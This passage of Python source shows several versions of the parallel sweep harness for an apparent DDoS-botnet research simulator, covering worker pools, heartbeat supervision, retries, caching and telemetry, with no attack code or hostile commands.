sweep therefore resumes: rerunning it re-serves every committed point
and recomputes only the remainder.

Determinism: a run's outcome depends only on its config (the per-run
RNGs are seeded from ``config.seed``), so neither sharding nor dispatch
order can change any result — ``jobs=N`` returns byte-identical rows to
``jobs=1``, just sooner on a multi-core host.  ``jobs<=1`` bypasses
multiprocessing entirely and runs the exact serial path (in grid order).
"""

from __future__ import annotations

import multiprocessing
import os
import sys
import time
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.core.config import SimulationConfig
from repro.core.results import RunResult
from repro.obs.recorder import FlightRecorder
from repro.obs.spans import SpanTracker


def default_jobs() -> int:
    """Worker count when the caller says "parallel" without a number:
    every core, capped so tiny grids don't fork idle workers."""
    return os.cpu_count() or 1


def _run_one(config: SimulationConfig) -> RunResult:
    # Module-level so it pickles for the pool.
    from repro.core.framework import DDoSim

    return DDoSim(config).run()


def _run_one_with_metrics(
    config: SimulationConfig,
) -> Tuple[RunResult, Dict[str, dict]]:
    from repro.core.framework import DDoSim
    from repro.obs import Observatory

    ddosim = DDoSim(config, observatory=Observatory())
    result = ddosim.run()
    return result, ddosim.obs.metrics.snapshot()


def _make_pool(jobs: int):
    # fork shares the already-imported modules with the workers; fall
    # back to the platform default (spawn) where fork is unavailable.
    try:
        context = multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        context = multiprocessing.get_context()
    return context.Pool(processes=jobs)


def _invoke_indexed(task):
    """Pool entry point: run one tagged task so unordered completion can
    still be reassembled into grid order."""
    index, fn, item = task
    return index, fn(item)


def _invoke_indexed_timed(task):
    """Like :func:`_invoke_indexed`, but also reports the point's wall
    time so sweep telemetry can spot stragglers and project an ETA.
    The timing rides alongside the result — it never feeds back into the
    simulation, so determinism is untouched."""
    index, fn, item = task
    t0 = time.monotonic()  # simlint: disable=SIM101
    value = fn(item)
    elapsed = time.monotonic() - t0  # simlint: disable=SIM101
    return index, value, elapsed


# ----------------------------------------------------------------------
# Sweep telemetry
# ----------------------------------------------------------------------
class SweepTelemetry:
    """Live observability for one sweep: per-point worker spans, cache
    hit/miss attribution, straggler flagging and an ETA, streamed as
    progress lines (stderr by default).

    This is *harness* telemetry — it measures the sweep machinery in
    wall time, not the simulation, so it lives outside the determinism
    contract: enabling ``--progress`` cannot change a single row.  Each
    completed point becomes a span in a sweep-local :class:`SpanTracker`
    (wall-clock offsets from :meth:`begin`), and every progress event is
    noted into a sweep-local :class:`FlightRecorder` that dumps itself
    when a worker dies, so a crashed sweep leaves a post-mortem of the
    points that led up to the death.
    """

    def __init__(self, label: str = "sweep", stream=None,
                 straggler_factor: float = 3.0):
        self.label = label
        self.stream = stream if stream is not None else sys.stderr
        self.straggler_factor = straggler_factor
        self.spans = SpanTracker()
        self.recorder = FlightRecorder()
        self.total = 0
        self.jobs = 1
        self.done = 0
        self.cached = 0
        self.computed = 0
        self.stragglers: List[int] = []
        self.last_summary: Optional[dict] = None
        self._elapsed: List[float] = []
        self._t0 = 0.0

    # -- internals ------------------------------------------------------
    def _now(self) -> float:
        """Seconds since :meth:`begin` (wall clock, harness-side only)."""
        return time.monotonic() - self._t0  # simlint: disable=SIM101

    def _line(self, text: str) -> None:
        print(f"[{self.label}] {text}", file=self.stream, flush=True)

    def _eta(self) -> Optional[float]:
        remaining = self.total - self.done
        if not self._elapsed or remaining <= 0:
            return None
        mean = sum(self._elapsed) / len(self._elapsed)
        return remaining * mean / max(self.jobs, 1)

    # -- lifecycle ------------------------------------------------------
    def begin(self, total: int, jobs: int = 1) -> None:
        self.total = total
        self.jobs = max(jobs, 1)
        self._t0 = time.monotonic()  # simlint: disable=SIM101
        self.recorder.note("sweep.begin", 0.0, total=total, jobs=self.jobs)
        self._line(f"{total} points, jobs={self.jobs}")

    def point_cached(self, index: int, key: Optional[str] = None) -> None:
        self.done += 1
        self.cached += 1
        t = self._now()
        span = self.spans.start("sweep.point", t, entity=str(index),
                                source="cache", **({"key": key} if key else {}))
        self.spans.end(span, t)
        self.recorder.note("sweep.cache_hit", t, index=index,
                           **({"key": key} if key else {}))
        suffix = f" (key {key})" if key else ""
        self._line(f"point {index}: cache hit{suffix} "
                   f"[{self.done}/{self.total}]")

    def point_done(self, index: int, elapsed: float) -> None:
        self.done += 1
        self.computed += 1
        self._elapsed.append(elapsed)
        t = self._now()
        span = self.spans.start("sweep.point", t - elapsed,
                                entity=str(index), source="computed")
        self.spans.end(span, t, elapsed=round(elapsed, 6))
        self.recorder.note("sweep.point_done", t, index=index,
                           elapsed=round(elapsed, 3))
        straggler = ""
        if len(self._elapsed) >= 3:
            median = sorted(self._elapsed)[len(self._elapsed) // 2]
            if median > 0 and elapsed > self.straggler_factor * median:
                self.stragglers.append(index)
                straggler = f" STRAGGLER ({elapsed:.1f}s vs median {median:.1f}s)"
        eta = self._eta()
        eta_text = f", eta {eta:.0f}s" if eta is not None else ""
        self._line(f"point {index}: computed in {elapsed:.1f}s "
                   f"[{self.done}/{self.total}{eta_text}]{straggler}")

    def worker_died(self, error: BaseException) -> None:
        t = self._now()
        self.recorder.note("sweep.worker_death", t, error=repr(error))
        dump = self.recorder.dump("sweep.worker_death", t, error=repr(error))
        self._line(f"worker died: {error!r}")
        if dump is not None:
            self._line(f"flight recorder: {len(dump['notes'])} notes "
                       f"preserved for post-mortem")

    def finish(self) -> dict:
        t = self._now()
        summary = {
            "total": self.total,
            "cached": self.cached,
            "computed": self.computed,
            "stragglers": list(self.stragglers),
            "wall_seconds": round(t, 3),
        }
        self.recorder.note("sweep.finish", t, **{
            key: value for key, value in summary.items() if key != "stragglers"
        })
        straggler_text = (f", stragglers: {self.stragglers}"
                          if self.stragglers else "")
        self._line(f"done: {self.cached} cached + {self.computed} computed "
                   f"of {self.total} in {t:.1f}s{straggler_text}")
        self.last_summary = summary
        return summary


def run_map(
    fn,
    items: Sequence,
    jobs: int = 1,
    on_complete: Optional[Callable[[int, object], None]] = None,
    telemetry: Optional[SweepTelemetry] = None,
) -> List:
    """Map a picklable ``fn`` over ``items`` through the dynamic work
    queue; results come back in input order.

    ``on_complete(index, value)`` fires in *this* process as each item
    finishes (completion order, not input order) — the hook
    :func:`run_cached` uses to commit points incrementally.  ``jobs<=1``
    runs serially in this process (the exact seed path, input order).

    ``telemetry`` (a :class:`SweepTelemetry`) receives a ``point_done``
    per completed item with its wall time, and a ``worker_died`` (plus a
    flight-recorder dump) if the pool iteration raises.  Purely
    observational: results are identical with and without it.
    """
    if jobs <= 1 or len(items) <= 1:
        out = []
        for index, item in enumerate(items):
            if telemetry is not None:
                _index, value, elapsed = _invoke_indexed_timed((index, fn, item))
                telemetry.point_done(index, elapsed)
            else:
                value = fn(item)
            if on_complete is not None:
                on_complete(index, value)
            out.append(value)
        return out
    tasks = [(index, fn, item) for index, item in enumerate(items)]
    results: List = [None] * len(items)
    invoke = _invoke_indexed if telemetry is None else _invoke_indexed_timed
    with _make_pool(min(jobs, len(items))) as pool:
        # chunksize=1 keeps every task on the shared queue until a
        # worker is actually free — self-balancing under skewed grids.
        try:
            for completed in pool.imap_unordered(invoke, tasks, 1):
                if telemetry is not None:
                    index, value, elapsed = completed
                    telemetry.point_done(index, elapsed)
                else:
                    index, value = completed
                results[index] = value
                if on_complete is not None:
                    on_complete(index, value)
        except Exception as exc:
            # A worker death surfaces here (e.g. a run raising, or the
            # pool losing a process); dump the telemetry ring so the
            # run-up survives, then let the caller see the failure.
            if telemetry is not None:
                telemetry.worker_died(exc)
            raise
    return results


def run_configs(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> List[RunResult]:
    """Run every config; results come back in input order.

    ``jobs<=1`` runs serially in this process (the exact seed path);
    ``jobs>1`` spreads points across that many workers via the shared
    queue.
    """
    return run_map(_run_one, configs, jobs)


def run_configs_with_metrics(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> Tuple[List[RunResult], Dict[str, dict]]:
    """Like :func:`run_configs`, but each run carries a metrics-only
    observatory; returns (results, merged metric snapshot)."""
    pairs = run_map(_run_one_with_metrics, configs, jobs)
    results = [result for result, _snapshot in pairs]
    merged = merge_metric_snapshots([snapshot for _result, snapshot in pairs])
    return results, merged


# ----------------------------------------------------------------------
# Cache-aware incremental sweeps
# ----------------------------------------------------------------------
def run_cached(
    point_fn,
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
    cache=None,
    telemetry: Optional[SweepTelemetry] = None,
) -> List:
    """Evaluate ``point_fn`` (config -> :class:`repro.cache.CachedRun`)
    over a grid, serving cache hits instantly and committing each
    computed miss the moment it finishes.

    With ``cache=None`` this is exactly :func:`run_map`.  With a
    :class:`repro.cache.RunCache`:

    1. every config is fingerprinted and looked up — hits cost one JSON
       deserialize, no simulator is built;
    2. only the misses go to the dynamic work queue;
    3. each completed miss is committed from this (parent) process —
       one writer, atomic rename — so interrupting the sweep loses only
       in-flight points, and the rerun resumes from the committed ones;
    4. the session's hit/miss tally is persisted for
       ``repro cache stats``.

    Results come back in grid order either way.  ``telemetry`` streams a
    progress line per point, attributing each to the cache (with its
    short blob key) or to a worker's computation.
    """
    if telemetry is not None:
        telemetry.begin(len(configs), jobs)
    if cache is None:
        results = run_map(point_fn, configs, jobs, telemetry=telemetry)
        if telemetry is not None:
            telemetry.finish()
        return results

    results: List = [None] * len(configs)
    miss_indices: List[int] = []
    for index, config in enumerate(configs):
        hit = cache.get(config)
        if hit is not None:
            results[index] = hit
            if telemetry is not None:
                telemetry.point_cached(index, key=cache.describe(config))
        else:
            miss_indices.append(index)

    def commit(position: int, value) -> None:
        index = miss_indices[position]
        results[index] = value
        cache.put(configs[index], value)

    try:
        run_map(
            point_fn,
            [configs[index] for index in miss_indices],
            jobs,
            on_complete=commit,
            telemetry=telemetry,
        )
    finally:
        cache.commit_session()
    if telemetry is not None:
        telemetry.finish()
    return results


def merge_metric_snapshots(
    snapshots: Sequence[Dict[str, dict]],
) -> Dict[str, dict]:
    """Merge per-run ``MetricsRegistry.snapshot()`` dicts into one.

    Counters and histogram buckets sum across runs; gauges keep the
    maximum (a fleet-wide high-water mark — gauges here are peaks like
    heap depth, not levels that would average meaningfully).
    """
    merged: Dict[str, dict] = {"counters": {}, "gauges": {}, "histograms": {}}
    for snapshot in snapshots:
        for name, series in snapshot.get("counters", {}).items():
            into = merged["counters"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = into.get(labels, 0) + value
        for name, series in snapshot.get("gauges", {}).items():
            into = merged["gauges"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = max(into.get(labels, value), value)
        for name, series in snapshot.get("histograms", {}).items():
            into = merged["histograms"].setdefault(name, {})
            for labels, hist in series.items():
                existing = into.get(labels)
                if existing is None:
                    into[labels] = {
                        "count": hist.get("count", 0),
                        "sum": hist.get("sum", 0.0),
                        "mean": hist.get("mean", 0.0),
                        "buckets": dict(hist.get("buckets", {})),
                    }
                    continue
                existing["count"] += hist.get("count", 0)
                existing["sum"] += hist.get("sum", 0.0)
                existing["mean"] = (
                    existing["sum"] / existing["count"] if existing["count"] else 0.0
                )
                buckets = existing["buckets"]
                for edge, count in hist.get("buckets", {}).items():
                    buckets[edge] = buckets.get(edge, 0) + count
    return merged
