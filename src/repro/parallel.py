"""Parallel execution of independent experiment grid points.

Every sweep in :mod:`repro.core.experiment` evaluates a grid whose
points share nothing — each builds its own :class:`Simulator` from its
own config and seed — so they shard perfectly across worker processes.
This module is the one place that knows how: it maps configs over a
``multiprocessing`` pool, keeps results in grid order, and merges the
per-worker observability metric snapshots into one fleet-wide view.

Determinism: a run's outcome depends only on its config (the per-run
RNGs are seeded from ``config.seed``), so sharding cannot change any
result — ``jobs=N`` returns byte-identical rows to ``jobs=1``, just
sooner on a multi-core host.  ``jobs<=1`` bypasses multiprocessing
entirely and runs the exact serial path.
"""

from __future__ import annotations

import multiprocessing
import os
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.config import SimulationConfig
from repro.core.results import RunResult


def default_jobs() -> int:
    """Worker count when the caller says "parallel" without a number:
    every core, capped so tiny grids don't fork idle workers."""
    return os.cpu_count() or 1


def _run_one(config: SimulationConfig) -> RunResult:
    # Module-level so it pickles for the pool.
    from repro.core.framework import DDoSim

    return DDoSim(config).run()


def _run_one_with_metrics(
    config: SimulationConfig,
) -> Tuple[RunResult, Dict[str, dict]]:
    from repro.core.framework import DDoSim
    from repro.obs import Observatory

    ddosim = DDoSim(config, observatory=Observatory())
    result = ddosim.run()
    return result, ddosim.obs.metrics.snapshot()


def _make_pool(jobs: int):
    # fork shares the already-imported modules with the workers; fall
    # back to the platform default (spawn) where fork is unavailable.
    try:
        context = multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        context = multiprocessing.get_context()
    return context.Pool(processes=jobs)


def run_map(fn, items: Sequence, jobs: int = 1) -> List:
    """Map a picklable ``fn`` over ``items``, sharded across ``jobs``
    worker processes; results come back in input order.  ``jobs<=1``
    runs serially in this process (the exact seed path)."""
    if jobs <= 1 or len(items) <= 1:
        return [fn(item) for item in items]
    with _make_pool(min(jobs, len(items))) as pool:
        return pool.map(fn, items)


def run_configs(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> List[RunResult]:
    """Run every config; results come back in input order.

    ``jobs<=1`` runs serially in this process (the exact seed path);
    ``jobs>1`` shards across that many worker processes.
    """
    return run_map(_run_one, configs, jobs)


def run_configs_with_metrics(
    configs: Sequence[SimulationConfig],
    jobs: int = 1,
) -> Tuple[List[RunResult], Dict[str, dict]]:
    """Like :func:`run_configs`, but each run carries a metrics-only
    observatory; returns (results, merged metric snapshot)."""
    pairs = run_map(_run_one_with_metrics, configs, jobs)
    results = [result for result, _snapshot in pairs]
    merged = merge_metric_snapshots([snapshot for _result, snapshot in pairs])
    return results, merged


def merge_metric_snapshots(
    snapshots: Sequence[Dict[str, dict]],
) -> Dict[str, dict]:
    """Merge per-run ``MetricsRegistry.snapshot()`` dicts into one.

    Counters and histogram buckets sum across runs; gauges keep the
    maximum (a fleet-wide high-water mark — gauges here are peaks like
    heap depth, not levels that would average meaningfully).
    """
    merged: Dict[str, dict] = {"counters": {}, "gauges": {}, "histograms": {}}
    for snapshot in snapshots:
        for name, series in snapshot.get("counters", {}).items():
            into = merged["counters"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = into.get(labels, 0) + value
        for name, series in snapshot.get("gauges", {}).items():
            into = merged["gauges"].setdefault(name, {})
            for labels, value in series.items():
                into[labels] = max(into.get(labels, value), value)
        for name, series in snapshot.get("histograms", {}).items():
            into = merged["histograms"].setdefault(name, {})
            for labels, hist in series.items():
                existing = into.get(labels)
                if existing is None:
                    into[labels] = {
                        "count": hist.get("count", 0),
                        "sum": hist.get("sum", 0.0),
                        "mean": hist.get("mean", 0.0),
                        "buckets": dict(hist.get("buckets", {})),
                    }
                    continue
                existing["count"] += hist.get("count", 0)
                existing["sum"] += hist.get("sum", 0.0)
                existing["mean"] = (
                    existing["sum"] / existing["count"] if existing["count"] else 0.0
                )
                buckets = existing["buckets"]
                for edge, count in hist.get("buckets", {}).items():
                    buckets[edge] = buckets.get(edge, 0) + count
    return merged
