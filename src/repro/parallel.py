"""Parallel execution of independent experiment grid points.

Every sweep in :mod:`repro.core.experiment` evaluates a grid whose
points share nothing — each builds its own :class:`Simulator` from its
own config and seed — so they spread perfectly across worker processes.
This module is the one place that knows how.

Dispatch is a **dynamic work queue**, not static sharding: the parent
hands each worker exactly one point at a time over a private pipe and
idle workers get the next point the moment they finish their last.  A
sweep whose grid is skewed (one 150-Dev point among 10-Dev points) no
longer idles the pool behind its slowest static shard; the slow point
occupies one worker while the rest drain everything else.

Execution is **supervised**: every worker streams heartbeats to the
parent, so the parent can distinguish a dead worker (pipe EOF, process
gone) from a *hung* one (alive but silent past the heartbeat deadline).
Either way the worker is SIGKILLed and replaced, and the point is
retried with capped-exponential backoff — the same schedule the bots
use to re-reach a flapping C&C (:mod:`repro.botnet.bot`).  When a
:class:`Supervision` enables per-point wall-clock timeouts, a point
that exhausts its retries is **quarantined** (the sweep completes and
reports it) instead of killing the whole sweep.

:func:`run_cached` adds the cache layer (:mod:`repro.cache`): it first
partitions the grid into hits — served instantly from disk, no
simulator built — and misses, dispatches only the misses, and commits
each finished point to the cache *as it completes*.  An interrupted
sweep therefore resumes: rerunning it re-serves every committed point
and recomputes only the remainder.

Determinism: a run's outcome depends only on its config (the per-run
RNGs are seeded from ``config.seed``), so neither sharding, dispatch
order, nor retries can change any result — ``jobs=N`` returns
byte-identical rows to ``jobs=1``, just sooner on a multi-core host.
``jobs<=1`` bypasses multiprocessing entirely and runs the exact serial
path (in grid order), unless a :class:`Supervision` needs a worker
process to enforce its timeout.
"""

from __future__ import annotations

import multiprocessing
import multiprocessing.connection
import os
import resource
import sys
import threading
import time
from collections import deque
from dataclasses import dataclass, replace
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.core.config import SimulationConfig
from repro.core.results import RunResult
from repro.obs.recorder import FlightRecorder
from repro.obs.spans import SpanTracker

#: retry backoff schedule — the bot reconnect pattern (base * 2^(n-1),
#: capped), scaled to sweep-harness magnitudes
RETRY_BACKOFF = 0.25
RETRY_BACKOFF_MAX = 8.0

#: wall seconds between worker->parent heartbeats
HEARTBEAT_INTERVAL = 0.2

#: test hook: setting this event inside a worker process silences its
#: heartbeat thread, simulating a hung-but-alive worker
_heartbeat_suppressed = threading.Event()


def default_jobs() -> int:
    """Worker count when the caller says "parallel" without a number:
    every core, capped so tiny grids don't fork idle workers."""
    return os.cpu_count() or 1


def _run_one(config: SimulationConfig) -> RunResult:
    # Module-level so it pickles for spawn-based platforms.
    from repro.core.framework import DDoSim

    return DDoSim(config).run()


def _run_one_with_metrics(
    config: SimulationConfig,
) -> Tuple[RunResult, Dict[str, dict]]:
    from repro.core.framework import DDoSim
    from repro.obs import Observatory

    ddosim = DDoSim(config, observatory=Observatory())
    result = ddosim.run()
    return result, ddosim.obs.metrics.snapshot()


def _mp_context():
    # fork shares the already-imported modules with the workers; fall
    # back to the platform default (spawn) where fork is unavailable.
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return multiprocessing.get_context()


def _peak_rss_kib() -> int:
    """This process's peak RSS in KiB (Linux ``ru_maxrss`` unit)."""
    return int(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)


def _invoke_indexed_timed(task):
    """Serial-path helper: run one tagged task and report its wall time
    so sweep telemetry can spot stragglers and project an ETA.  The
    timing rides alongside the result — it never feeds back into the
    simulation, so determinism is untouched."""
    index, fn, item = task
    t0 = time.monotonic()  # simlint: disable=SIM101
    value = fn(item)
    elapsed = time.monotonic() - t0  # simlint: disable=SIM101
    return index, value, elapsed


# ----------------------------------------------------------------------
# Supervision policy
# ----------------------------------------------------------------------
@dataclass(frozen=True)
class Supervision:
    """How a sweep reacts to slow, hung, and dead workers.

    The default policy (used whenever ``jobs>1``) retries a point once
    after a worker death — a single transient crash no longer costs the
    point — and otherwise changes nothing.  Setting ``point_timeout``
    arms the full harness: per-point wall-clock deadlines, stale-
    heartbeat hang detection, and quarantine after ``retries`` are
    exhausted so one poison point cannot kill the sweep.
    """

    #: wall-clock seconds one point may run before its worker is killed
    point_timeout: Optional[float] = None
    #: extra attempts after the first, for timeouts/hangs/worker deaths
    retries: int = 1
    #: quarantine exhausted points instead of raising; None = automatic
    #: (on exactly when a point_timeout is set)
    quarantine: Optional[bool] = None
    #: capped-exponential retry delay parameters (bot-backoff shape)
    backoff_base: float = RETRY_BACKOFF
    backoff_cap: float = RETRY_BACKOFF_MAX
    #: worker heartbeat period (wall seconds)
    heartbeat_interval: float = HEARTBEAT_INTERVAL
    #: silence longer than this marks a live worker as hung; None =
    #: automatic (enabled with a generous default when point_timeout is
    #: set, off otherwise — hang detection must never kill healthy
    #: workers in the default policy)
    hung_after: Optional[float] = None

    def backoff(self, attempt: int) -> float:
        """Delay before retry ``attempt`` (1-based): the capped
        exponential schedule the bots use for C&C reconnects."""
        return min(self.backoff_cap, self.backoff_base * (2 ** (attempt - 1)))

    @property
    def quarantines(self) -> bool:
        if self.quarantine is not None:
            return self.quarantine
        return self.point_timeout is not None

    @property
    def effective_hung_after(self) -> Optional[float]:
        if self.hung_after is not None:
            return self.hung_after
        if self.point_timeout is not None:
            return max(5.0, 25.0 * self.heartbeat_interval)
        return None

    @property
    def needs_worker(self) -> bool:
        """True when this policy can only be enforced out-of-process."""
        return self.point_timeout is not None or self.hung_after is not None


DEFAULT_SUPERVISION = Supervision()


@dataclass(frozen=True)
class QuarantinedPoint:
    """Placeholder result for a point that exhausted its retries.

    Sweeps carrying one of these completed; row builders skip it and
    the sweep summary reports which grid indices were quarantined."""

    index: int
    attempts: int
    reason: str  # "timeout" | "hung" | "worker_death"
    error: str = ""


# ----------------------------------------------------------------------
# Worker side
# ----------------------------------------------------------------------
def _supervised_worker(conn, fn, heartbeat_interval: float) -> None:
    """One supervised worker: pull (index, item) tasks off ``conn``, run
    them, send back ("ok", ...) / ("err", ...), and stream ("hb",)
    heartbeats from a side thread so the parent can tell hung from dead.
    """
    send_lock = threading.Lock()
    stop = threading.Event()

    def beat() -> None:
        while not stop.wait(heartbeat_interval):
            if _heartbeat_suppressed.is_set():
                continue  # test hook: play dead while staying alive
            try:
                with send_lock:
                    conn.send(("hb",))
            except (BrokenPipeError, OSError):
                return

    threading.Thread(target=beat, daemon=True).start()
    try:
        while True:
            try:
                task = conn.recv()
            except (EOFError, OSError):
                break
            if task is None:
                break
            index, item = task
            t0 = time.monotonic()  # simlint: disable=SIM101
            try:
                value = fn(item)
            except BaseException as exc:
                elapsed = time.monotonic() - t0  # simlint: disable=SIM101
                rss = _peak_rss_kib()
                try:
                    message = ("err", index, exc, elapsed, rss)
                    with send_lock:
                        conn.send(message)
                except Exception:
                    # The exception itself didn't pickle; degrade to repr.
                    with send_lock:
                        conn.send(
                            ("err", index, RuntimeError(repr(exc)), elapsed, rss)
                        )
                continue
            elapsed = time.monotonic() - t0  # simlint: disable=SIM101
            with send_lock:
                conn.send(("ok", index, value, elapsed, _peak_rss_kib()))
    finally:
        stop.set()
        conn.close()


# ----------------------------------------------------------------------
# Parent side
# ----------------------------------------------------------------------
class _WorkerSlot:
    """Parent-side bookkeeping for one supervised worker process."""

    __slots__ = ("process", "conn", "index", "started", "last_beat",
                 "rss_kib")

    def __init__(self, process, conn):
        self.process = process
        self.conn = conn
        self.index: Optional[int] = None  # grid index in flight, if any
        self.started = 0.0
        self.last_beat = 0.0
        self.rss_kib: Optional[int] = None  # last peak RSS it reported


def _spawn_worker(ctx, fn, heartbeat_interval: float) -> _WorkerSlot:
    parent_conn, child_conn = ctx.Pipe(duplex=True)
    process = ctx.Process(
        target=_supervised_worker,
        args=(child_conn, fn, heartbeat_interval),
        daemon=True,
    )
    process.start()
    child_conn.close()
    return _WorkerSlot(process, parent_conn)


def _kill_worker(slot: _WorkerSlot) -> None:
    try:
        slot.process.kill()
    except Exception:
        pass
    slot.process.join(timeout=2.0)
    try:
        slot.conn.close()
    except OSError:
        pass


def _shutdown_workers(workers: List[_WorkerSlot]) -> None:
    for slot in workers:
        try:
            slot.conn.send(None)
        except (BrokenPipeError, OSError):
            pass
    for slot in workers:
        slot.process.join(timeout=2.0)
        if slot.process.is_alive():
            slot.process.kill()
            slot.process.join(timeout=2.0)
        try:
            slot.conn.close()
        except OSError:
            pass


def _supervised_map(
    fn,
    items: Sequence,
    jobs: int,
    on_complete: Optional[Callable[[int, object], None]],
    telemetry: Optional["SweepTelemetry"],
    supervision: Supervision,
) -> List:
    """The supervised executor: per-worker pipes (a killed worker can
    only corrupt its own, which dies with it), heartbeat monitoring,
    deadline enforcement, retry with backoff, and quarantine."""
    monotonic = time.monotonic  # simlint: disable=SIM101
    ctx = _mp_context()
    total = len(items)
    n_workers = max(1, min(jobs, total))
    hung_after = supervision.effective_hung_after
    results: List = [None] * total
    attempts = [0] * total
    #: (grid index, earliest wall time it may be dispatched)
    pending = deque((index, 0.0) for index in range(total))
    completed = 0

    def fail_attempt(index: int, reason: str, error: str) -> None:
        nonlocal completed
        attempts[index] += 1
        if attempts[index] <= supervision.retries:
            delay = supervision.backoff(attempts[index])
            if telemetry is not None:
                telemetry.point_retried(index, attempts[index], reason, delay)
            pending.append((index, monotonic() + delay))
            return
        if supervision.quarantines:
            results[index] = QuarantinedPoint(
                index=index, attempts=attempts[index], reason=reason,
                error=error,
            )
            completed += 1
            if telemetry is not None:
                telemetry.point_quarantined(index, reason, attempts[index])
            return
        exc = RuntimeError(
            f"sweep point {index} failed after {attempts[index]} attempt(s) "
            f"({reason}): {error}"
        )
        if telemetry is not None:
            telemetry.worker_died(exc)
        raise exc

    workers = [
        _spawn_worker(ctx, fn, supervision.heartbeat_interval)
        for _ in range(n_workers)
    ]
    by_conn = {slot.conn: slot for slot in workers}

    def replace_worker(slot: _WorkerSlot) -> None:
        by_conn.pop(slot.conn, None)
        _kill_worker(slot)
        fresh = _spawn_worker(ctx, fn, supervision.heartbeat_interval)
        workers[workers.index(slot)] = fresh
        by_conn[fresh.conn] = fresh

    def on_death(slot: _WorkerSlot, detail: str) -> None:
        index = slot.index
        rss_kib = slot.rss_kib
        slot.index = None
        replace_worker(slot)
        if telemetry is not None:
            # Every worker death leaves a post-mortem, retried or not.
            telemetry.worker_lost(index, detail, rss_kib=rss_kib)
        if index is not None:
            fail_attempt(index, "worker_death", detail)

    try:
        while completed < total:
            now = monotonic()
            # Dispatch ready work to idle workers, preserving queue order.
            for slot in workers:
                if slot.index is not None or not pending:
                    continue
                picked = None
                for position, (index, not_before) in enumerate(pending):
                    if not_before <= now:
                        picked = position
                        break
                if picked is None:
                    continue
                index, _not_before = pending[picked]
                del pending[picked]
                slot.index = index
                slot.started = slot.last_beat = now
                try:
                    slot.conn.send((index, items[index]))
                except (BrokenPipeError, OSError) as exc:
                    on_death(slot, f"send failed: {exc!r}")
            # Sleep until the nearest deadline (retry release, point
            # timeout, or hang check), bounded so silent process death
            # is still noticed promptly.
            deadlines = [not_before for _index, not_before in pending]
            for slot in workers:
                if slot.index is None:
                    continue
                if supervision.point_timeout is not None:
                    deadlines.append(slot.started + supervision.point_timeout)
                if hung_after is not None:
                    deadlines.append(slot.last_beat + hung_after)
            now = monotonic()
            wait_for = 0.5
            if deadlines:
                wait_for = min(wait_for, max(0.01, min(deadlines) - now))
            ready = multiprocessing.connection.wait(
                list(by_conn), timeout=wait_for
            )
            for conn in ready:
                slot = by_conn.get(conn)
                if slot is None:
                    continue
                try:
                    message = conn.recv()
                except (EOFError, OSError):
                    slot.process.join(timeout=1.0)  # reap to get the exitcode
                    on_death(slot, f"pipe closed (exitcode "
                                   f"{slot.process.exitcode})")
                    continue
                kind = message[0]
                if kind == "hb":
                    slot.last_beat = monotonic()
                    continue
                index, value, elapsed = message[1], message[2], message[3]
                rss_kib = message[4] if len(message) > 4 else None
                slot.index = None
                slot.last_beat = monotonic()
                slot.rss_kib = rss_kib
                if kind == "err":
                    # The point fn itself raised: deterministic, so a
                    # retry would raise again — surface it (with the
                    # telemetry post-mortem) exactly like the serial
                    # path would.
                    if telemetry is not None:
                        telemetry.worker_died(value, rss_kib=rss_kib)
                    raise value
                results[index] = value
                completed += 1
                if telemetry is not None:
                    telemetry.point_done(index, elapsed, rss_kib=rss_kib)
                if on_complete is not None:
                    on_complete(index, value)
            # Deadline scan: wall-clock overruns and stale heartbeats.
            now = monotonic()
            for slot in list(workers):
                index = slot.index
                if index is None:
                    if not slot.process.is_alive() and (
                        pending or completed < total
                    ):
                        on_death(slot, "idle worker exited")
                    continue
                if (
                    supervision.point_timeout is not None
                    and now - slot.started > supervision.point_timeout
                ):
                    slot.index = None
                    replace_worker(slot)
                    fail_attempt(
                        index, "timeout",
                        f"exceeded {supervision.point_timeout:g}s wall clock",
                    )
                elif hung_after is not None and now - slot.last_beat > hung_after:
                    slot.index = None
                    replace_worker(slot)
                    fail_attempt(
                        index, "hung",
                        f"no heartbeat for {hung_after:g}s (process alive)",
                    )
    finally:
        _shutdown_workers(workers)
    return results


def run_map(
    fn,
    items: Sequence,
    jobs: int = 1,
    on_complete: Optional[Callable[[int, object], None]] = None,
    telemetry: Optional["SweepTelemetry"] = None,
    supervision: Optional[Supervision] = None,
) -> List:
    """Map ``fn`` over ``items`` through the supervised dynamic work
    queue; results come back in input order.

    ``on_complete(index, value)`` fires in *this* process as each item
    finishes (completion order, not input order) — the hook
    :func:`run_cached` uses to commit points incrementally.  ``jobs<=1``
    runs serially in this process (the exact seed path, input order)
    unless ``supervision`` needs a worker process to enforce a timeout.

    ``telemetry`` (a :class:`SweepTelemetry`) receives a ``point_done``
    per completed item, retry/quarantine notes, and a ``worker_died``
    (plus a flight-recorder dump) on fatal failures.  Purely
    observational: results are identical with and without it.

    ``supervision`` (a :class:`Supervision`) controls timeout, retry,
    hang-detection and quarantine policy; the default retries each point
    once after a worker death.  Quarantined points come back as
    :class:`QuarantinedPoint` placeholders in the result list (and are
    never passed to ``on_complete``).
    """
    # The in-process serial path is only for the *default* policy: an
    # explicit Supervision implies worker isolation (timeouts, hangs,
    # and crashes can't be survived in-process).
    supervise = supervision if supervision is not None else DEFAULT_SUPERVISION
    if supervision is None and (jobs <= 1 or len(items) <= 1):
        out = []
        for index, item in enumerate(items):
            if telemetry is not None:
                _index, value, elapsed = _invoke_indexed_timed((index, fn, item))
                telemetry.point_done(index, elapsed, rss_kib=_peak_rss_kib())
            else:
                value = fn(item)
            if on_complete is not None:
                on_complete(index, value)
            out.append(value)
        return out
    if not items:
        return []
    try:
        return _supervised_map(
            fn, items, jobs, on_complete, telemetry, supervise
        )
    except KeyboardInterrupt:
